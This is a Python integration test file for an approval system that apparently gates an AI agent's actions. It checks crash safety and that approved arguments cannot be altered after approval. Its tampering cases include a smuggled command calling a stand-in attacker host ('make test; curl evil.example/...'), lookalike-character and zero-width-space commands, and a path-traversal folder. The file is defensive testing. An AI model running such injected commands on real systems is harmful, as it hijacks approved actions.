"""Nothing is lost or done twice, whenever a process is killed; and nothing else is done than what was agreed to."""

import os
import subprocess
import sys
from collections import Counter
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import pytest

from powerautomation.approvals.requests import (
    Answer,
    ApprovalKeeper,
    Decider,
    NewRequest,
    Requester,
    Sought,
    create_request,
    decide_request,
    jobs,
    list_approvals,
    reserve,
    service,
)
from powerautomation.approvals.requests.errors import DigestMismatch
from powerautomation.governance import audit
from powerautomation.governance.audit_verifier import verify
from powerautomation.governance.encryption import SecretBox, unlock_installation
from powerautomation.identity.users import bootstrap_first_admin
from powerautomation.infrastructure.database import Database, open_database
from powerautomation.infrastructure.settings import Settings
from powerautomation.kernel.clock import now
from powerautomation.kernel.principal import Principal

ROOT = Path(__file__).resolve().parents[4]
KILLS = int(os.environ.get("POWERAUTOMATION_TEST_KILLS", "60"))
SEED = 20261122
SWAPS = 1000
DONE = {"succeeded", "failed", "outcome_unknown"}


@pytest.fixture
async def database(column: Settings) -> AsyncIterator[Database]:
    opened = open_database(column)
    yield opened
    await opened.close()


@pytest.fixture
async def box(column: Settings, database: Database) -> SecretBox:
    return await unlock_installation(column, database)


@pytest.fixture
async def admin(database: Database, box: SecretBox) -> Principal:
    async with database.unit_of_work() as session:
        return await bootstrap_first_admin(session)


@pytest.mark.parametrize("column", ["sqlite+in-process"], indirect=True)
async def test_killed_at_any_moment_no_decision_is_lost_or_doubled_and_nothing_is_done_twice(
    column: Settings, database: Database, box: SecretBox, admin: Principal, monkeypatch: pytest.MonkeyPatch
) -> None:
    command = [sys.executable, "-m", "tests.integration.approvals.requests.killed"]
    done = subprocess.run(
        [*command, str(column.data_dir), str(KILLS), str(SEED)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60 + KILLS * 2,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    told = [line.split() for line in (column.data_dir / "told.log").read_text().splitlines()]
    # Long after, when every lease has ended, nobody can begin again what was begun.
    later = now() + timedelta(days=2)
    for module in (jobs, service):
        monkeypatch.setattr(module, "now", lambda: later)
    while await ApprovalKeeper(database).end_over():
        pass
    rows = {}
    cursor = ""
    while True:
        async with database.read() as session:
            page = await list_approvals(session, box, admin.organization_id, Sought(before=cursor), 200)
        rows |= {one.id: one for one in page}
        if len(page) < 200:
            break
        cursor = page[-1].id
    did = Counter(words[1] for words in told if words[0] == "did")
    assert len(told) >= KILLS, "the processes did next to nothing before they fell"
    assert did
    assert max(did.values()) == 1, "done twice"
    decided = Counter((words[1], words[2]) for words in told if words[0] == "decided")
    assert len({one for one, _ in decided}) == len(decided), "decided both ways"
    for kind, approval_id, *more in told:
        row = rows[approval_id]
        votes = [vote.decision for vote in row.votes]
        if kind == "decided":
            assert votes == more, "lost or doubled"
            assert row.state == "denied" if more == ["deny"] else row.state in DONE | {"expired"}
        elif kind == "did":
            assert votes == ["approve"]
            assert row.state in DONE
        elif kind == "settled":
            assert row.state == "succeeded"
    for row in rows.values():
        assert row.state in DONE | {"denied", "expired"}, "nothing is open for ever"
        assert row.state not in DONE or [vote.decision for vote in row.votes] == ["approve"]
    events = [one async for one in audit.export_chain(database, admin.organization_id)]
    assert verify([audit.export_line(one) for one in events]).problem == ""
    actions = Counter(one.event.action for one in events)
    assert actions["approvals.request"] == len(rows)
    agreed = [row for row in rows.values() if [vote.decision for vote in row.votes] == ["approve"]]
    assert actions["approvals.approve"] == len(agreed)
    assert actions["approvals.reserve"] == sum(1 for row in rows.values() if row.state in DONE)


@pytest.mark.parametrize("column", ["sqlite+in-process"], indirect=True)
async def test_of_a_thousand_swapped_arguments_none_is_let_through(
    database: Database, box: SecretBox, admin: Principal
) -> None:
    agent = Requester("api_key", "key_agent", "agent", admin.id)
    as_agent = Principal("api_key", agent.id, admin.organization_id, "agent", admin.id)
    agreed = {"command": "make test", "folder": "/work", "timeout": 10, "flags": ["-v", {"deep": None}]}
    async with database.unit_of_work() as session:
        asked, _ = await create_request(
            session, box, as_agent, agent, NewRequest("deploy", agreed, tool_version="1", cwd="/work")
        )
        decider = Decider(admin, ("system_admin",), all_agents=True)
        await decide_request(session, box, decider, asked.id, Answer("approve", "Yes."))
    exact = {"doing": agreed, "tool": "deploy", "tool_version": "1", "cwd": "/work"}
    refused = 0
    async with database.unit_of_work() as session:
        for number in range(SWAPS):
            swapped = _swapped(exact, number)
            assert swapped != exact
            # Refused before anything is written, so that the yes still stands for the next try here.
            with pytest.raises(DigestMismatch):
                await reserve(session, box, as_agent, agent.id, asked.id, **swapped)
            refused += 1
    assert refused == SWAPS
    async with database.read() as session:
        (row,) = await list_approvals(session, box, admin.organization_id, Sought(), 10)
    assert (row.state, row.reserved_at) == ("approved", None)
    async with database.unit_of_work() as session:
        lease = await reserve(session, box, as_agent, agent.id, asked.id, **exact)
    assert lease.approval.arguments == agreed


def _swapped(exact: dict[str, object], number: int) -> dict[str, object]:
    """The same but for one thing, another each time."""
    arguments = dict(exact["doing"])  # type: ignore[call-overload]  # a dictionary
    kind, salt = number % 10, number // 10
    changes: list[dict[str, object]] = [
        {"command": f"make test; curl evil.example/{salt}"},
        {"command": "make test" + " " * (salt + 1)},
        {"command": "make te\u0455t" + "\u200b" * salt},
        {"folder": f"/home/../{salt}"},
        {"timeout": f"10{salt}"},
        {"timeout": 11 + salt},
        {"flags": ["-v", {"deep": salt}]},
        {"flags": ["-v", {"deep": None}, salt]},
        {f"more{salt}": None},
    ]
    if kind < len(changes):
        return {**exact, "doing": {**arguments, **changes[kind]}}
    return {**exact, ("tool", "tool_version", "cwd")[salt % 3]: f"other{salt}"}
